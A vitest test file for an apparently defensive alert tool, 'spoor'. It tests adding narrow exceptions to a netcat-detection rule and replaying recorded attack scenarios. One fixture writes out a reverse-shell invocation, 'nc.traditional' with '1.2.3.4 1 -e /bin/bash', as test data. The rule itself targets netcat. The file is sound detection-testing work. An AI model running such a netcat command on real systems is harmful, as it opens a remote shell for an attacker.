/** A narrow exception from an alert: proved, written with everything else left as it was. */
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { type ExceptionEntry, exceptionFor } from '../../src/authoring/exception.ts';
import { matches } from '../../src/authoring/proof.ts';
import { withException } from '../../src/authoring/rule-edit.ts';
import { subjectOfAlert } from '../../src/authoring/subject.ts';
import { loadRules } from '../../src/rules/load.ts';
import { decodeLine } from '../../src/sources/json/decoder.ts';
import { spoor, temporaryFolder } from '../cli/cli.ts';
import { alertsOf, eventsOf, shippedRules } from './recorded.ts';

const entry: ExceptionEntry = {
  name: 'backup',
  fields: ['pod.namespace', 'process.binary'],
  comps: ['=', '='],
  values: [['shop', '/usr/bin/nc']],
};

const RULE = `# Ours.
title: Netcat   # a title
id: 4f2cbb51-0f53-4d43-9d25-2b8a87a4a003
level:   high
taxonomy: spoor
description: 'x'
tags: [attack.t1059]
logsource: {category: process_creation}
detection:
  netcat:   { process.name: nc }   # as is
  condition: netcat
`;
const TESTS = `# The tests.
tests:
- name: fires
  events:
  - exec: {binary: /usr/bin/nc, pod: other/x}
  expect: {alerts: 1}
- name: quiet
  events:
  - exec: {binary: /usr/bin/ls, pod: other/x}
  expect: {alerts: 0}
`;

describe('a rule with one exception more', () => {
  const cases: Record<string, { text: string; line?: number }> = {
    'without tests': { text: RULE },
    'without a line end': { text: RULE.trimEnd() },
    'with tests below': { text: RULE + TESTS },
    'with exceptions': {
      text: `${RULE}exceptions:\n  # why\n  - name: first\n    fields: [pod.namespace]\n    values: [a]   # a\n${TESTS}`,
    },
    'with exceptions that are not indented': {
      text: `${RULE}exceptions:\n- name: first\n  fields: [pod.namespace]\n  values:\n  - a\n\n${TESTS}`,
    },
    'with exceptions on one line': {
      text: `${RULE}exceptions: [{name: first, fields: [pod.namespace], values: [a]}]\n${TESTS}`,
    },
    'with an empty key': { text: RULE.replace('# Ours.\n', '') + TESTS },
    'among other documents': { text: `lists: {a: [b]}\n---\n${RULE}${TESTS}---\nlists: {c: [d]}\n`, line: 4 },
  };
  it.each(Object.entries(cases))('%s: loads, with every comment and test', (_name, { text, line }) => {
    const before = loadRules([{ file: 'rule.yaml', text }]);
    expect(before.rules).toHaveLength(1);
    const edited = withException(text, line ?? before.rules[0]!.line, entry);
    if ('problem' in edited) throw new Error(edited.problem);
    const after = loadRules([{ file: 'rule.yaml', text: edited.text }]);
    expect(after.diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
    expect(after.rules).toHaveLength(1);
    expect([...after.tests.values()].map(tests => tests.length)).toEqual([...before.tests.values()].map(t => t.length));
    for (const comment of text.match(/#.*/g) ?? []) expect(edited.text).toContain(comment);
    expect(edited.text).toContain('name: backup');
    if (text.includes('name: first')) expect(edited.text).toContain('first');
    // All but `exceptions` stands as it was, letter by letter.
    if (!text.includes('exceptions: [')) {
      const kept = edited.text.split('\n');
      for (const written of text.split('\n')) expect(kept).toContain(written);
    }
    expect(withException(edited.text, line ?? before.rules[0]!.line, entry)).toHaveProperty('problem');
  });

  it('is not made where there is no such rule', () => {
    expect(withException(RULE, 99, entry)).toHaveProperty('problem');
    expect(withException('- rule: a\n  exceptions: []\n', 1, entry)).toHaveProperty('problem');
  });
});

it('asks for more than the workload, in all alerts of recorded attacks, and matches their events', () => {
  let made = 0;
  for (const scenario of ['lateral-movement', 'credential-theft', 'exfil']) {
    for (const alert of alertsOf(shippedRules(), eventsOf(scenario))) {
      const rule = shippedRules().find(({ id }) => id === alert.rule.id)!;
      const subject = subjectOfAlert(alert, decodeLine)!;
      const event = subject.evidence.filter(observation => matches(rule, observation)).at(-1);
      if (event === undefined) continue;
      const exception = exceptionFor(event, 'this');
      if (exception === null) continue;
      made += 1;
      expect(exception.fields.some(field => !field.startsWith('pod.') && !field.startsWith('container.'))).toBe(true);
      const text = `title: x
taxonomy: spoor
detection: { all: { process.binary|exists: true }, none: { dns.query|exists: true }, condition: all or none or not all }
exceptions: ${JSON.stringify([exception])}
`;
      const { rules, diagnostics } = loadRules([{ file: 'x.yaml', text }]);
      expect(diagnostics.filter(({ severity }) => severity === 'error')).toEqual([]);
      expect(rules[0]?.excepted(event), `${alert.rule.title}: ${JSON.stringify(exception)}`).toBe(true);
    }
  }
  expect(made).toBeGreaterThan(15);
});

it('is written by the command when its proof holds, and only then', async () => {
  const folder = temporaryFolder();
  const file = join(folder, 'netcat.yaml');
  const database = join(folder, 'a.db');
  const original = RULE.replace('process.name: nc', 'process.name: "nc*"') + TESTS;
  writeFileSync(file, original);
  const recorded = ['tetragon', 'hubble'].map(sensor => `captures/lateral-movement/${sensor}.jsonl.gz`);
  const played = await spoor([
    'replay',
    ...recorded,
    '--rules',
    file,
    '--no-default-rules',
    '--db',
    database,
    '-o',
    'json',
  ]);
  const { id } = JSON.parse(played.stdout.split('\n')[0] ?? '') as { id: string };
  const shown = await spoor(['rules', 'except', id.slice(0, 10), '--db', database, '--rules', file]);
  expect(shown).toMatchObject({ code: 0 });
  expect(shown.stdout).toContain("# ok: the alert's event is suppressed");
  expect(shown.stdout).toContain('# ok: still fires: fires');
  expect(readFileSync(file, 'utf8')).toBe(original);
  // The rule fires no more on what it was made for: refused.
  const own = original.replace(
    'binary: /usr/bin/nc, pod: other/x',
    "binary: /usr/bin/nc.traditional, arguments: '1.2.3.4 1 -e /bin/bash', pod: tenant-jobs/crawler, container: crawler, parent: /bin/sh",
  );
  writeFileSync(file, own);
  const refused = await spoor(['rules', 'except', id, '--db', database, '--rules', file, '--write']);
  expect(refused).toMatchObject({ code: 1 });
  expect(refused.stdout).toContain('# NOT OK: still fires: fires');
  expect(readFileSync(file, 'utf8')).toBe(own);
  writeFileSync(file, original);
  expect(await spoor(['rules', 'except', id, '--db', database, '--rules', file, '--write'])).toMatchObject({ code: 0 });
  const again = await spoor(['replay', ...recorded, '--rules', file, '--no-default-rules', '-o', 'json']);
  expect(again.stdout).not.toContain('nc.traditional -e');
  expect(again.stdout.split('\n').filter(line => line !== '').length).toBeLessThan(
    played.stdout.split('\n').filter(line => line !== '').length,
  );
}, 60_000);
